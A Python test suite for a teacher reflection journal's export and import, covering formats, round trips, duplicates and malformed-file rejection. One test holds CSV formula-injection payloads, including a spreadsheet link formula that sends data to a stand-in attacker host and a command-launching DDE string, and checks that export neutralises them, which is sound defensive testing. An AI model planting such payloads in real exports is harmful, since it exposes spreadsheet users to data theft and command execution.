"""Export (JSON, Markdown, CSV) and import: completeness, an exact round trip, duplicates, bad files,
and the command line run as a separate process."""

import csv
import io
import json
import tomllib
from datetime import date

import pytest

from reflection import allowed_phrases, drafts, export, importing, journal, prompt_store, prompts, text_cleaning
from reflection.config import PROJECT_ROOT
from reflection.errors import InvalidInput


def write(db, user, body, created_at=None, **fields):
    return journal.create_entry(db, user, journal.EntryDraft(body=body, **fields), created_at=created_at)


@pytest.fixture
def journal_of(db, make_user):
    """A teacher with entries using every field, an edited entry, a phrase, a prompt set, a share and a draft."""
    teacher, coach = make_user(), make_user("coach")
    allowed_phrases.allow_phrase(db, teacher, "at risk group")
    own_set = prompt_store.add_set(db, teacher, "Exit check", "What went well?\nWhat next?")
    guided = write(
        db, teacher, "What went well?\nThe lab.\n\nWhat next?\nMore talk time.", "2025-03-03T15:00:00+00:00",
        title="Lab day", class_period="Period 3", mood=4, tags=["science", "Labs"], taught_on=date(2025, 3, 3),
        prompt_set=prompt_store.library_key(own_set.id),
        prompt_answers=[{"title": "What went well?", "prompt": "What went well?", "answer": "The lab."},
                        {"title": "What next?", "prompt": "What next?", "answer": "More talk time."}],
    )
    flagged = write(db, teacher, "Those kids are lazy, and the at risk group never listens.", "2025-03-04T16:30:00+00:00",
                    taught_on=date(2025, 3, 4), mood=2, prompt_set="gibbs")
    journal.update_entry(db, teacher, flagged.id, journal.EntryDraft(
        body="Those kids are lazy, and the at risk group never listens today.", taught_on=date(2025, 3, 4),
        mood=2, prompt_set="gibbs", tags=["behaviour"]))
    write(db, teacher, "Quiet day. 👩🏽‍🏫 “Merci” said Amélie.", "2025-03-05T08:00:00+00:00", taught_on=date(2025, 3, 5))
    share_id = db["shares"].insert({
        "entry_id": guided.id, "owner_id": teacher.id, "coach_id": coach.id, "title": "Lab day",
        "body": guided.body, "include_flags": 0, "created_at": "2025-03-06T10:00:00+00:00",
    }).last_pk
    db["comments"].insert({"share_id": share_id, "author_id": coach.id, "kind": "strength",
                           "body": "Great questioning.", "created_at": "2025-03-06T11:00:00+00:00"})
    db["comments"].insert({"share_id": share_id, "author_id": teacher.id, "kind": "note",
                           "body": "Thanks!", "created_at": "2025-03-06T12:00:00+00:00"})
    drafts.save_draft(db, teacher, {"body": "half a thought"})
    return teacher


def entries_without_ids(document):
    return [{key: value for key, value in entry.items() if key != "id"} for entry in document["entries"]]


def test_json_export_is_complete_and_has_no_password_hash(db, journal_of):
    document = json.loads(export.to_json(db, journal_of))
    assert (document["format"], document["version"]) == ("reflection-export", 1)
    assert document["account"]["username"] == journal_of.username
    assert "password" not in json.dumps(document["account"])
    assert [entry["taught_on"] for entry in document["entries"]] == ["2025-03-05", "2025-03-04", "2025-03-03"]
    assert set(document["entries"][0]) == set(export.ENTRY_COLUMNS) | {"tags"}
    guided = document["entries"][2]
    assert guided["tags"] == ["Labs", "science"] and guided["class_period"] == "Period 3" and guided["mood"] == 4
    assert guided["prompt_answers"][1]["answer"] == "More talk time."
    assert guided["analysis"]["rules_version"] == guided["rules_version"]
    [share] = document["shares"]
    assert share["entry_id"] == guided["id"] and share["include_flags"] is False
    assert [(c["kind"], c["body"]) for c in share["comments"]] == [("strength", "Great questioning."), ("note", "Thanks!")]
    assert [c["body"] for c in document["comments_written"]] == ["Thanks!"]
    assert [p["phrase"] for p in document["allowed_phrases"]] == ["at risk group"]
    assert "Exit check" in document["prompt_sets"][0]["body"]
    assert document["draft"]["data"] == {"body": "half a thought"}


def test_markdown_is_one_readable_document_newest_first(db, journal_of):
    text = export.to_markdown(db, journal_of)
    assert text.startswith(f"# Reflection journal of {journal_of.display_name}")
    assert text.index("Quiet day.") < text.index("Those kids") < text.index("## Lab day")
    assert "*Monday 03 March 2025 · Period 3 · mood 4/5*" in text
    assert "Tags: Labs, science" in text


def test_csv_has_one_row_per_entry_with_tags_joined(db, journal_of):
    rows = list(csv.DictReader(io.StringIO(export.to_csv(db, journal_of))))
    assert [row["taught_on"] for row in rows] == ["2025-03-05", "2025-03-04", "2025-03-03"]
    assert rows[2]["tags"] == "Labs, science" and rows[2]["body"].startswith("What went well?\nThe lab.")
    assert text_cleaning.parse_tags(rows[2]["tags"]) == ["Labs", "science"]


def test_round_trip_restores_every_field_into_another_account(db, make_user, journal_of):
    original = json.loads(export.to_json(db, journal_of))
    newcomer = make_user()

    report = importing.import_json(db, newcomer, export.to_json(db, journal_of))

    assert (report.imported, report.duplicates_skipped, report.allowed_phrases_added, report.prompt_sets_added) == (3, 0, 1, 1)
    restored = json.loads(export.to_json(db, newcomer))
    [new_set] = prompt_store.stored_sets(db, newcomer)
    expected = entries_without_ids(original)
    expected[2]["prompt_set"] = prompt_store.library_key(new_set.id)  # the set's key in its new home
    assert entries_without_ids(restored) == expected
    assert restored["allowed_phrases"][0]["phrase"] == "at risk group"
    # The phrase was allowed before the entries were checked, so it is not flagged in either account.
    assert "at risk group" not in [flag["text"] for flag in restored["entries"][1]["analysis"]["flags"]]
    assert restored["entries"][1]["flag_count"] > 0
    assert journal.search_entries(db, newcomer, "merci")[0].entry.body.startswith("Quiet day.")


def test_importing_the_same_file_twice_adds_nothing_the_second_time(db, make_user, journal_of):
    newcomer = make_user()
    document = export.to_json(db, journal_of)
    importing.import_json(db, newcomer, document)
    again = importing.import_json(db, newcomer, document)
    assert (again.imported, again.duplicates_skipped, again.allowed_phrases_added, again.prompt_sets_added) == (0, 3, 0, 0)
    assert "skipped 3" in again.summary
    assert db.execute("SELECT count(*) FROM entries WHERE author_id = ?", [newcomer.id]).fetchone()[0] == 3
    assert len(prompt_store.stored_sets(db, newcomer)) == 1 and len(allowed_phrases.own_allowed_phrases(db, newcomer)) == 1


def valid_document(db, user) -> dict:
    return json.loads(export.to_json(db, user))


def nested(depth: int) -> list:
    value: list = []
    for _ in range(depth):
        value = [value]
    return value


def long_set(name: str, prompt_chars: int = 20) -> str:
    return prompts.prompt_set_from_lines(name, "\n".join(["What went well today?"] * (prompt_chars // 20)))


@pytest.mark.parametrize(
    "spoil, message",
    [
        (lambda doc: "{not json", "not valid JSON"),
        (lambda doc: json.dumps([1, 2]), "not a Reflection export"),
        (lambda doc: json.dumps({**doc, "format": "something-else"}), "not a Reflection export"),
        (lambda doc: json.dumps({**doc, "version": 2}), "format version 2"),
        (lambda doc: json.dumps({**doc, "entries": "lots"}), "should be a list"),
        (lambda doc: json.dumps({**doc, "entries": [*doc["entries"][:2], {**doc["entries"][2], "mood": 9}]}),
         "Entry 3 .*Mood"),
        (lambda doc: json.dumps({**doc, "entries": [{**doc["entries"][0], "taught_on": "yesterday"}]}),
         "Entry 1 .*taught_on"),
        (lambda doc: json.dumps({**doc, "entries": [{**doc["entries"][0], "tags": "a, b"}]}), "“tags” should be list"),
        (lambda doc: json.dumps({**doc, "entries": [{k: v for k, v in doc["entries"][0].items() if k != "body"}]}),
         "has no “body”"),
        (lambda doc: json.dumps({**doc, "prompt_sets": [{**doc["prompt_sets"][0], "body": "kind = 3"}]}),
         "Prompt set 1 .*cannot be used"),
        (lambda doc: b"\xff\xfe\x00bad", "not UTF-8"),
        (lambda doc: json.dumps({**doc, "entries": [{**doc["entries"][0], "body": "Lab \ud800 day"}]}),
         "entries › 1 › body .*lone surrogate"),
        (lambda doc: json.dumps({**doc, "entries": [{**doc["entries"][0], "\udfff": 1}]}), "lone surrogate"),
        (lambda doc: json.dumps({**doc, "entries": []})[:-1] + ', "x": ' + "[" * 100_000 + "]" * 100_000 + "}",
         "12 levels deep"),
        (lambda doc: json.dumps({**doc, "entries": [{**doc["entries"][0], "prompt_answers": nested(40)}]}),
         "12 levels deep"),
        (lambda doc: json.dumps({**doc, "entries": [{**doc["entries"][0], "prompt_answers": [{"step": ["a"]}]}]}),
         "Entry 1 .*object of texts"),
        (lambda doc: json.dumps({**doc, "allowed_phrases": [{"phrase": "at risk " * 40}]}),
         "Allowed phrase 1 .*at most 200 characters"),
        (lambda doc: json.dumps({**doc, "prompt_sets": [{**doc["prompt_sets"][0], "body": long_set("n" * 121)}]}),
         "Prompt set 1 .*name can be at most 120"),
        (lambda doc: json.dumps({**doc, "prompt_sets": [{**doc["prompt_sets"][0], "body": long_set("Big", 30_000)}]}),
         "Prompt set 1 .*at most 20,000 characters"),
        (lambda doc: b" " * (importing.MAX_IMPORT_BYTES + 1), "at most 50 MB"),
    ],
)
def test_a_bad_file_is_refused_clearly_and_imports_nothing(db, make_user, journal_of, spoil, message):
    newcomer = make_user()
    with pytest.raises(InvalidInput, match=message):
        importing.import_json(db, newcomer, spoil(valid_document(db, journal_of)))
    assert db.execute("SELECT count(*) FROM entries WHERE author_id = ?", [newcomer.id]).fetchone()[0] == 0
    assert allowed_phrases.own_allowed_phrases(db, newcomer) == [] and prompt_store.stored_sets(db, newcomer) == []


def test_unknown_export_format_is_refused(db, journal_of):
    with pytest.raises(InvalidInput, match="json, markdown, csv"):
        export.export(db, journal_of, "pdf")


# --- command line -------------------------------------------------------------------------------


def test_cli_exports_to_stdout_and_file_and_imports_a_file(run_cli, db, db_path, make_user, journal_of, tmp_path):
    newcomer = make_user()
    to_stdout = run_cli("--db", db_path, "export", "--user", journal_of.username)
    assert to_stdout.returncode == 0, to_stdout.stderr
    assert len(json.loads(to_stdout.stdout)["entries"]) == 3

    csv_file = tmp_path / "entries.csv"
    to_file = run_cli("--db", db_path, "export", "--user", journal_of.username, "--format", "csv", "--output", str(csv_file))
    assert to_file.returncode == 0 and to_file.stdout == ""
    assert len(list(csv.DictReader(csv_file.open(encoding="utf-8")))) == 3
    markdown = run_cli("--db", db_path, "export", "--user", journal_of.username, "--format", "markdown")
    assert markdown.stdout.startswith("# Reflection journal of")

    json_file = tmp_path / "export.json"
    json_file.write_text(to_stdout.stdout, encoding="utf-8")
    imported = run_cli("--db", db_path, "import", "--user", newcomer.username, str(json_file))
    assert imported.returncode == 0, imported.stderr
    assert "Imported 3 entries" in imported.stdout
    again = run_cli("--db", db_path, "import", "--user", newcomer.username, str(json_file))
    assert "Imported 0 entries; skipped 3" in again.stdout
    assert entries_without_ids(json.loads(export.to_json(db, newcomer)))[0] == entries_without_ids(
        json.loads(to_stdout.stdout))[0]


@pytest.mark.parametrize(
    "args, message",
    [
        (("export", "--user", "nobody"), "no account “nobody”"),
        (("export", "--user", "teacher1", "--format", "pdf"), "Unknown export format"),
        (("import", "--user", "teacher1", "missing.json"), "Cannot read missing.json"),
    ],
)
def test_cli_errors_are_clear_and_exit_non_zero(run_cli, db_path, make_user, args, message):
    make_user()
    result = run_cli("--db", db_path, *args)
    assert result.returncode == 2 and message in result.stderr


def test_cli_refuses_a_markdown_file_for_import(run_cli, db, db_path, journal_of, tmp_path):
    markdown = tmp_path / "journal.md"
    markdown.write_text(export.to_markdown(db, journal_of), encoding="utf-8")
    result = run_cli("--db", db_path, "import", "--user", journal_of.username, str(markdown))
    assert result.returncode == 2 and "not valid JSON" in result.stderr


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(db, make_user):
    teacher = make_user()
    formulas = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    for number, formula in enumerate(formulas):
        write(db, teacher, formula, f"2025-03-0{number + 1}T08:00:00+00:00", title=formula[:40],
              class_period=formula[:20], tags=[formula.replace(",", " ")[:40]], taught_on=date(2025, 3, number + 1))
    write(db, teacher, "A plain entry - with a dash inside.", "2025-03-09T08:00:00+00:00", title="Plain")

    rows = list(csv.DictReader(io.StringIO(export.to_csv(db, teacher))))
    cells = [cell for row in rows for column, cell in row.items() if column in ("title", "body", "class_period", "tags")]
    assert not [cell for cell in cells if cell.startswith(export.FORMULA_STARTS)]
    assert {row["body"] for row in rows} >= {"'" + formula for formula in formulas}
    assert rows[0]["body"] == "A plain entry - with a dash inside." and rows[0]["title"] == "Plain"
    assert all(row["word_count"].isdigit() for row in rows)


@pytest.mark.parametrize("limit, phrases_kept, sets_kept", [("MAX_ALLOWED_PHRASES", 2, 0), ("MAX_SETS_PER_OWNER", 0, 1)])
def test_import_keeps_the_limits_on_how_many_phrases_and_sets_an_account_holds(
        db, make_user, journal_of, monkeypatch, limit, phrases_kept, sets_kept):
    newcomer = make_user()
    monkeypatch.setattr(allowed_phrases, "MAX_ALLOWED_PHRASES", 2)
    monkeypatch.setattr(prompt_store, "MAX_SETS_PER_OWNER", 1)
    for number in range(phrases_kept):
        allowed_phrases.allow_phrase(db, newcomer, f"phrase {number}")
    for number in range(sets_kept):
        prompt_store.add_set(db, newcomer, f"Set {number}", "What went well?")
    with pytest.raises(InvalidInput, match="Nothing was imported: There are already"):
        importing.import_json(db, newcomer, export.to_json(db, journal_of))
    assert db.execute("SELECT count(*) FROM entries WHERE author_id = ?", [newcomer.id]).fetchone()[0] == 0
    assert len(allowed_phrases.own_allowed_phrases(db, newcomer)) == phrases_kept
    assert len(prompt_store.stored_sets(db, newcomer)) == sets_kept


def test_the_prompts_page_and_import_share_the_prompt_set_limits(db, make_user, monkeypatch):
    teacher = make_user()
    with pytest.raises(InvalidInput, match="name can be at most 120"):
        prompt_store.add_set(db, teacher, "n" * 121, "What went well?")
    with pytest.raises(InvalidInput, match="description can be at most 300"):
        prompt_store.add_set(db, teacher, "Exit check", "What went well?", description="d" * 301)
    monkeypatch.setattr(prompt_store, "MAX_SETS_PER_OWNER", 1)
    prompt_store.add_set(db, teacher, "Exit check", "What went well?")
    with pytest.raises(InvalidInput, match="already 1 prompt sets"):
        prompt_store.add_set(db, teacher, "Another", "What next?")
    with pytest.raises(InvalidInput, match="at most 200 characters"):
        allowed_phrases.allow_phrase(db, teacher, "at risk " * 40)


def test_the_import_size_limit_is_the_servers_upload_limit():
    config = tomllib.loads((PROJECT_ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] * 2**20 == importing.MAX_IMPORT_BYTES


def test_cli_refuses_a_file_over_the_import_limit_before_reading_it(run_cli, db_path, make_user, tmp_path):
    teacher = make_user()
    huge = tmp_path / "huge.json"
    with huge.open("wb") as file:
        file.truncate(importing.MAX_IMPORT_BYTES + 1)  # sparse: no 50 MB written to disk
    result = run_cli("--db", db_path, "import", "--user", teacher.username, str(huge))
    assert result.returncode == 2 and "at most 50 MB" in result.stderr and "Traceback" not in result.stderr
